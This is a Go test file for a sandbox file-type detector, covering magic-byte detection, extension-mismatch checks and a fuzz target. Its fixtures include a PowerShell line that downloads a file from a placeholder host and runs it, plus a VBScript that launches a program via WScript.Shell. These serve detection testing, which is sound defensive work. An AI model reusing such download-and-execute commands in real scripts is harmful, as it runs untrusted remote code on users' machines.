package filetype_test

import (
	"testing"

	"github.com/eventsec/eventsec/internal/sandbox/filetype"
	"github.com/eventsec/eventsec/internal/sandbox/samplegen"
)

func TestDetect(t *testing.T) {
	cases := []struct {
		name string
		data []byte
		want filetype.ID
	}{
		{"a.exe", samplegen.PE(samplegen.PEOptions{}), filetype.PE},
		{"a.docx", samplegen.Docx(samplegen.DocxOptions{Body: "x"}), filetype.Docx},
		{"a.docm", samplegen.Docx(samplegen.DocxOptions{Body: "x", VBA: []byte("x")}), filetype.Docm},
		{"a.zip", samplegen.Zip([]samplegen.ZipFile{{Name: "a", Data: []byte("b")}}), filetype.Zip},
		{"a.jar", samplegen.Zip([]samplegen.ZipFile{{Name: "META-INF/MANIFEST.MF", Data: []byte("b")}}), filetype.Jar},
		{"a.doc", samplegen.CFB([]samplegen.Stream{{Path: "WordDocument", Data: []byte("x")}}), filetype.OLE},
		{"a.pdf", samplegen.PDF(samplegen.PDFOptions{Text: "x"}), filetype.PDF},
		{"a.gz", []byte("\x1f\x8b\x08\x00"), filetype.Gzip},
		{"a.7z", []byte("7z\xbc\xaf\x27\x1c\x00\x04"), filetype.SevenZip},
		{"a.rar", []byte("Rar!\x1a\x07\x01\x00"), filetype.RAR},
		{"a.png", []byte("\x89PNG\r\n\x1a\n...."), filetype.PNG},
		{"x", []byte("#!/bin/bash\necho hi\n"), filetype.Shell},
		{"x.txt", []byte("$env:TEMP; Invoke-WebRequest -Uri http://x -OutFile a; Start-Process a"), filetype.PowerShell},
		{"x", []byte("Dim x\r\nSet x = CreateObject(\"WScript.Shell\")\r\nx.Run \"calc\"\r\n"), filetype.VBScript},
		{"x", []byte("@echo off\r\nset /a x=1\r\ngoto :end\r\n:end\r\n"), filetype.Batch},
		{"x", []byte("var a = 1;\nfunction f(x) { return eval(x); }\n"), filetype.JavaScript},
		{"x", []byte("<html><body><script>alert(1)</script></body></html>"), filetype.HTML},
		{"x", []byte(`{"a": 1}`), filetype.JSON},
		{"x", []byte("just some words in a file"), filetype.Text},
		{"x", []byte{0x00, 0x01, 0x02, 0xff}, filetype.Binary},
		{"x", nil, filetype.Empty},
	}
	for _, tc := range cases {
		if got := filetype.Detect(tc.data, tc.name).ID; got != tc.want {
			t.Errorf("%s: got %s, want %s", tc.name, got, tc.want)
		}
	}
}

func TestExtensionMismatch(t *testing.T) {
	pe := filetype.Lookup(filetype.PE)
	for name, want := range map[string]bool{"a.exe": false, "a.DLL": false, "a.pdf": true, "a": true, "a.txt": true} {
		if got := filetype.ExtensionMismatch(pe, name); got != want {
			t.Errorf("%s: %v", name, got)
		}
	}
	if filetype.ExtensionMismatch(filetype.Lookup(filetype.ELF), "daemon") {
		t.Error("ELF without extension")
	}
}

func FuzzDetect(f *testing.F) {
	f.Add([]byte("PK\x03\x04"), "a.zip")
	f.Add([]byte("MZ\x00\x00"), "a.exe")
	f.Fuzz(func(t *testing.T, b []byte, name string) {
		_ = filetype.Detect(b, name)
	})
}
